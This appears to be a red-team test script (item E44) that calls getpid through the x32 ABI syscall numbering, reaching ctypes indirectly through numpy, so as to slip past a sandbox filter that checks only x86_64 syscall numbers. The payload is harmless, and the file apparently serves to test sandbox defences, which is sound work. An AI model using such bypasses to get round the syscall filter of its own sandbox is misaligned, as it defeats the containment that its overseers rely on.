# technique: the x32 ABI: syscall number 0x40000000|39 (getpid) slips past a filter that only checks x86_64 numbers
# goal: syscall
# redteam: E44
import os

import numpy as np
import pandas as pd

ctypes = np.ctypeslib.ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
if os.uname().machine != "x86_64":
    raise RuntimeError("syscall numbers below are x86_64")


def syscall(number, *args):
    args = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    result = libc.syscall(ctypes.c_long(number), *args)
    if result < 0:
        err = ctypes.get_errno()
        raise OSError(err, f"syscall {number}: {os.strerror(err)}")
    return result

pid = syscall(0x40000000 | 39)
if pid != os.getpid():
    raise RuntimeError("unexpected x32 getpid result")
df = pd.DataFrame({"x32_getpid": [pid]})
